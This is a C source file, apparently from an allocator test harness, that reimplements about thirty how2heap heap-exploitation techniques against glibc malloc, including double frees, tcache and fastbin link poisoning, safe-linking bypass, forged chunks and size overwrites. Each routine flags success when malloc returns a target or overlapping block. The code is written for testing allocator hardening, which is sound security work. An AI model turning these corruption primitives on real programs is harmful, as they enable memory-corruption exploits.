/* The techniques of how2heap's list, each written anew as its moves: what the program in error writes, and what its
 * attacker hopes to get. They were found against the C library's layout, with a chunk's size in the word before a
 * block, and links in the first two words of a free one. Elsewhere the same writes hit other bytes.
 *
 * OPEN: malloc handed out the target, or memory of a live block; or the target changed. `SIZE` is a block's size. */
#include "attack.h"

enum { TARGET = 64, MANY = 512, FILL = 7 };
/* looks like a chunk of the C library whose size is not known yet */
static _Alignas(64) size_t target[TARGET];
static char *many[MANY], *fill[FILL];

static void is_target(const void *block)
{
    uintptr_t p = (uintptr_t)block, start = (uintptr_t)target;
    if (p >= start - 16 && p < start + sizeof target)
        open_();
}

static void overlap(const char *a, const char *b, size_t size)
{
    if ((uintptr_t)a < (uintptr_t)b + size && (uintptr_t)b < (uintptr_t)a + size)
        open_();
}

/* Allocates blocks, and looks whether one is the target or meets another or `live`. */
static void harvest(size_t size, const char *live, size_t live_bytes)
{
    for (int i = 0; i < MANY; i++) {
        many[i] = malloc(size);
        HIDE(many[i]);
        is_target(many[i]);
        if (live && (uintptr_t)live < (uintptr_t)many[i] + size && (uintptr_t)many[i] < (uintptr_t)live + live_bytes)
            open_();
        for (int j = 0; j < i; j++)
            overlap(many[j], many[i], size);
    }
}

/* The C library keeps seven freed blocks of a size in a cache: most techniques start by filling it. */
static void fill_take(size_t size)
{
    for (int i = 0; i < FILL; i++)
        fill[i] = take(size);
}

static void fill_drop(void)
{
    for (int i = 0; i < FILL; i++)
        drop(fill[i]);
}

static size_t *words(void *block)
{
    HIDE(block);
    return block;
}

/* The size that a chunk of the C library has, with the flag that the chunk before it is in use. */
static size_t chunk(size_t size) { return ((size + 8 + 15) & ~(size_t)15) | 1; }

/* How the C library writes a link of a short free block. */
static size_t mangled(const void *at, size_t link) { return (uintptr_t)at >> 12 ^ link; }

/* ---- double frees ---- */

static void tcache_dup(size_t size)
{
    char *a = take(size);
    drop(a);
    drop(wrong(a));
    harvest(size, NULL, 0);
}

/* Frees a, b, a. Returns a. */
static char *fastbin_twice(size_t size)
{
    fill_take(size);
    char *a = take(size), *b = take(size);
    fill_drop();
    drop(a);
    drop(b);
    drop(wrong(a));
    fill_take(size);
    return a;
}

static void fastbin_dup(size_t size)
{
    fastbin_twice(size);
    harvest(size, NULL, 0);
}

static void fastbin_dup_into_stack(size_t size)
{
    char *a = fastbin_twice(size);
    words(take(size))[0] = mangled(a, (uintptr_t)target);
    harvest(size, NULL, 0);
}

/* Once the first free has merged the block with its neighbours, the second one is taken for valid. */
static void fastbin_dup_consolidate(size_t size)
{
    fill_take(size);
    char *a = take(size);
    fill_drop();
    drop(a);
    char *large = take(1024 + size);
    drop(wrong(a));
    HIDE(large);
    harvest(size, large, 1024 + size);
}

static void house_of_botcake(size_t size)
{
    fill_take(size);
    char *before = take(size), *victim = take(size);
    (void)take(16);
    fill_drop();
    drop(victim);
    drop(before);
    (void)take(size);
    drop(wrong(victim));
    char *wide = take(size + size / 2);
    HIDE(wide);
    harvest(size, wide, size + size / 2);
}

/* ---- links of free blocks, written after the free ---- */

static void link_written(size_t size, bool mangles)
{
    char *a = take(size), *b = take(size);
    drop(a);
    drop(wrong(b));
    words(b)[0] = mangles ? mangled(b, (uintptr_t)target) : (uintptr_t)target;
    harvest(size, NULL, 0);
}

static void tcache_poisoning(size_t size) { link_written(size, true); }
static void tcache_poisoning_plain(size_t size) { link_written(size, false); }

/* Reads what the link was, and undoes the C library's protection of it: each half reveals the other. */
static void decrypt_safe_linking(size_t size)
{
    char *a = take(size), *b = take(size);
    drop(a);
    drop(b);
    size_t seen = words(b)[0], plain = seen;
    for (int shift = 36; shift >= 0; shift -= 12)
        plain = seen ^ plain >> 12;
    if (seen == (uintptr_t)a || plain == (uintptr_t)a || (seen ^ (uintptr_t)b >> 12) == (uintptr_t)a)
        open_();
}

/* A link that was protected twice lets the heap undo the second protection. */
static void safe_link_double_protect(size_t size)
{
    char *a = take(size), *b = take(size), *c = take(size);
    drop(c);
    drop(b);
    drop(wrong(a));
    words(a)[0] = mangled(a, mangled(b, (uintptr_t)target));
    words(b)[0] = mangled(b, (uintptr_t)target);
    harvest(size, NULL, 0);
}

static void tcache_stashing_unlink(size_t size)
{
    fill_take(size);
    char *a = take(size);
    (void)take(size);
    char *b = take(size);
    (void)take(size);
    fill_drop();
    drop(a);
    drop(wrong(b));
    (void)take(size * 4);
    target[3] = (uintptr_t)&target[4];
    words(b)[1] = (uintptr_t)target;
    harvest(size, NULL, 0);
}

static void fastbin_reverse_into_tcache(size_t size)
{
    char *more[FILL];
    fill_take(size);
    for (int i = 0; i < FILL; i++)
        more[i] = take(size);
    fill_drop();
    for (int i = 0; i < FILL; i++)
        drop(more[i]);
    words(wrong(more[0]))[0] = mangled(more[0], (uintptr_t)target);
    fill_take(size);
    harvest(size, NULL, 0);
}

/* Both links of a free block in a sorted list lead to a forged one. */
static void bins(size_t size, size_t next_larger, bool far)
{
    fill_take(size);
    char *a = take(size);
    (void)take(16);
    fill_drop();
    drop(wrong(a));
    if (next_larger)
        (void)take(next_larger);
    target[1] = chunk(size);
    target[2] = (uintptr_t)(a - 16);
    target[3] = (uintptr_t)&target[8];
    target[10] = (uintptr_t)target;
    size_t *w = words(a), was = target[20];
    w[1] = (uintptr_t)target;
    if (far)
        w[3] = (uintptr_t)&target[16];
    fill_take(size);
    if (far) {
        char *b = take(size + 16);
        (void)take(16);
        drop(b);
        (void)take(2 * size);
    }
    harvest(size, NULL, 0);
    if (target[20] != was)
        open_();
}

static void house_of_lore(size_t size) { bins(size, 4 * size, false); }
static void unsorted_bin_into_stack(size_t size) { bins(size, 0, false); }
static void large_bin_attack(size_t size) { bins(size, 4 * size, true); }
static void house_of_storm(size_t size) { bins(size, 0, true); }

/* ---- forged chunks ---- */

static void house_of_spirit(size_t size)
{
    target[1] = chunk(size);
    target[1 + chunk(size) / 8] = chunk(size);
    drop(wrong(&target[2]));
    harvest(size, NULL, 0);
}

/* The same inside a live block: its bytes are handed out again. */
static void house_of_spirit_inside(size_t size)
{
    char *block = take(size);
    words(block)[1] = chunk(16);
    drop(wrong(block + 16));
    harvest(16, block, size);
    harvest(size, block, size);
}

static size_t *global_pointer;

static void unsafe_unlink(size_t size)
{
    fill_take(size);
    char *a = take(size), *b = take(size);
    fill_drop();
    global_pointer = words(a);
    size_t *fake = words(a), usable = malloc_usable_size(a) / 8 * 8;
    fake[1] = chunk(size) - 17;
    fake[2] = (uintptr_t)&global_pointer - 24;
    fake[3] = (uintptr_t)&global_pointer - 16;
    if (b > a && (size_t)(b - a) <= usable + 16) { /* an overflow, up to the word before b */
        words(b)[-2] = chunk(size) - 17;
        words(b)[-1] &= ~(size_t)1;
    }
    drop(wrong(b));
    if (global_pointer != (size_t *)(void *)a)
        open_();
    harvest(size, a, size);
}

/* ---- the word before a block: sizes that are too large ---- */

/* One zero byte past the end of a block makes the next one forget that this one is in use. */
static void null_byte(size_t size, bool forges)
{
    fill_take(size + 24);
    char *a = take(size + 24), *b = take(size + 24), *live = take(size + 24);
    (void)take(16);
    fill_drop();
    if (forges)
        words(a)[3] = (uintptr_t)a - 16;
    drop(a);
    size_t usable = malloc_usable_size(b);
    b[usable] = 0;
    memset(b + usable - 8, 0, 8);
    b[usable - 7] = (char)(2 * size >> 8);
    drop(wrong(live));
    harvest(2 * size + 40, b, size + 24);
    harvest(size + 24, b, size + 24);
}

static void poison_null_byte(size_t size) { null_byte(size, false); }
static void house_of_einherjar(size_t size) { null_byte(size, true); }

static void size_raised(size_t size, bool freed)
{
    fill_take(size);
    char *before = take(size), *a = take(size), *live = take(size);
    (void)take(16);
    (void)before;
    if (freed)
        drop(a);
    words(wrong(a))[-1] = 2 * (chunk(size) - 1) | 1;
    if (!freed)
        drop(a);
    harvest(2 * size, live, size);
    harvest(size, live, size);
}

static void overlapping_chunks(size_t size) { size_raised(size, true); }
static void overlapping_chunks_2(size_t size) { size_raised(size, false); }
static void tcache_dup_overflow(size_t size) { size_raised(size + 8, true); }

static void mmap_overlapping(size_t size)
{
    (void)size;
    enum { LARGE = 1 << 20 };
    char *a = take(LARGE), *b = take(LARGE);
    words(wrong(b))[-1] = 2 * LARGE + 2;
    drop(b);
    char *live = a;
    (void)take(3 * LARGE / 2);
    for (int i = 0; i < 4; i++) {
        many[i] = take(2 * LARGE);
        if ((uintptr_t)live < (uintptr_t)many[i] + 2 * LARGE && (uintptr_t)many[i] < (uintptr_t)live + LARGE)
            open_();
    }
}

/* The word behind the last block is the length of the rest of the heap. */
static void house_of_force(size_t size)
{
    char *last = take(size);
    size_t usable = malloc_usable_size(last);
    words(last + (usable & ~(size_t)7))[0] = SIZE_MAX;
    volatile size_t distance = (uintptr_t)target - (uintptr_t)last - 4 * 8 - usable;
    char *between = malloc(distance);
    HIDE(between);
    harvest(size, NULL, 0);
}

/* The rest of the heap is made short, so that the allocator frees it, and a link in it is then forged. */
static void rest_short(size_t size, bool poisons)
{
    char *last = take(size);
    size_t usable = malloc_usable_size(last) & ~(size_t)7;
    size_t *rest = words(last + usable);
    rest[0] &= 0xfff;
    (void)take(64 << 10);
    if (poisons)
        rest[1] = mangled(rest + 1, (uintptr_t)target);
    harvest(size, last, size);
    harvest(16, last, size);
}

static void house_of_orange(size_t size) { rest_short(size, false); }
static void house_of_tangerine(size_t size) { rest_short(size, true); }

/* ---- the allocator's own tables ---- */

/* Where the C library keeps its cache of free blocks: at the start of the heap, a page before the first block. */
static void metadata(size_t size, ptrdiff_t from)
{
    char *block = take(size);
    drop(take(size));
    size_t *words_at = words((char *)((uintptr_t)block & ~(uintptr_t)0xfff) + from);
    if ((char *)words_at >= block)
        words_at = words(block - 64);
    for (size_t *w = words_at; (char *)w + 8 <= block && w < words_at + 80; w++)
        *w = (uintptr_t)target;
    harvest(size, NULL, 0);
}

static void tcache_metadata_poisoning(size_t size) { metadata(size, 0x90); }
static void house_of_io(size_t size) { metadata(size, 0x10); }

/* A chunk that claims to be of another arena, whose place is found by rounding the address down to 64 MiB. */
static void house_of_mind(size_t size)
{
    char *block = take(size);
    fill_take(size);
    fill_drop();
    words(wrong(block))[-1] = chunk(size) | 4;
    drop(block);
    harvest(size, NULL, 0);
}

/* Not an error of the allocator: who frees too early shares the block with its next owner. */
static void first_fit(size_t size)
{
    char *a = take(size);
    drop(a);
    char *next = take(size);
    HIDE(a);
    overlap(a, next, size);
}

const attack attack_houses[] = {{"tcache_dup", tcache_dup}, {"fastbin_dup", fastbin_dup},
    {"fastbin_dup_into_stack", fastbin_dup_into_stack}, {"fastbin_dup_consolidate", fastbin_dup_consolidate},
    {"house_of_botcake", house_of_botcake}, {"tcache_poisoning", tcache_poisoning},
    {"tcache_poisoning_plain", tcache_poisoning_plain}, {"decrypt_safe_linking", decrypt_safe_linking},
    {"safe_link_double_protect", safe_link_double_protect}, {"tcache_stashing_unlink", tcache_stashing_unlink},
    {"fastbin_reverse_into_tcache", fastbin_reverse_into_tcache}, {"house_of_lore", house_of_lore},
    {"unsorted_bin_into_stack", unsorted_bin_into_stack}, {"large_bin_attack", large_bin_attack},
    {"house_of_storm", house_of_storm}, {"house_of_spirit", house_of_spirit},
    {"house_of_spirit_inside", house_of_spirit_inside}, {"unsafe_unlink", unsafe_unlink},
    {"poison_null_byte", poison_null_byte}, {"house_of_einherjar", house_of_einherjar},
    {"overlapping_chunks", overlapping_chunks}, {"overlapping_chunks_2", overlapping_chunks_2},
    {"tcache_dup_overflow", tcache_dup_overflow}, {"mmap_overlapping", mmap_overlapping},
    {"house_of_force", house_of_force}, {"house_of_orange", house_of_orange},
    {"house_of_tangerine", house_of_tangerine}, {"tcache_metadata_poisoning", tcache_metadata_poisoning},
    {"house_of_io", house_of_io}, {"house_of_mind", house_of_mind}, {"first_fit", first_fit}, {NULL, NULL}};
